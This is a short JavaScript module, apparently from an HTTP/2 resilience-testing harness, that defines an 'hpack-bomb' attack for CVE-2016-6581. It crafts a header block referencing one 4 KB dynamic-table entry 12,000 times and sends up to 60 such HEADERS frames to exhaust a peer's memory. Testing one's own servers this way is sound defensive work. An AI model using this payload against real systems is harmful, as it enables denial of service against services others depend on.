import { BOUND_MIB } from "../attack.js";
import { Flag, FrameType, frame } from "../raw/frames.js";
import { CONNECT_PATH, indexed, integer, PROXY_PATH, requestBlock } from "../raw/headers.js";
import { linkAttack } from "./link.js";

/** The first entry of the dynamic table. */
const NEWEST = integer(62, 7, 0x80);

export const hpackBomb = linkAttack({
  name: "hpack-bomb",
  shortPlaces: ["agents"],
  description: "16 KB of header block that refer to one field of 4 KB 12,000 times (CVE-2016-6581)",
  boundMiB: BOUND_MIB,
  async onLink({ socket, role, stream }, work) {
    const path = role === "caller" ? PROXY_PATH : CONNECT_PATH;
    const big = indexed("x-bomb", "b".repeat(3900));
    const bomb = Buffer.concat([requestBlock(path), big, Buffer.alloc(12_000, NEWEST)]);
    for (let count = 0; count < 60 && !work.over; count++) {
      const at = role === "server" ? stream : 3 + 2 * count;
      await work.flood(socket, frame(FrameType.HEADERS, Flag.END_HEADERS, at, bomb), { times: 1, perSecond: 1 });
      await work.sleep(20);
    }
  },
});
